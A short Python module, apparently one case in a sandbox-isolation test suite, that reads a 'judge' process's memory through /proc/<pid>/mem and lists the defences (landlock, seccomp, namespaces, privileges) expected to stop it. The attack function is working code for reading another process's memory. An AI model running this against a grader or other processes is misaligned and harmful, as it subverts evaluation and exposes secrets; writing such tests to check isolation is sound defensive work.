"""Read the judge's memory through /proc."""

import os

STOPPED_BY = ("landlock", "seccomp", "namespaces")
HINDERED_BY = ("privileges",)
NEEDS = "tracing"


def attack(target):
    file = os.open(f"/proc/{target['judge']}/mem", os.O_RDONLY)
    return os.pread(file, target["length"], target["address"]).decode()
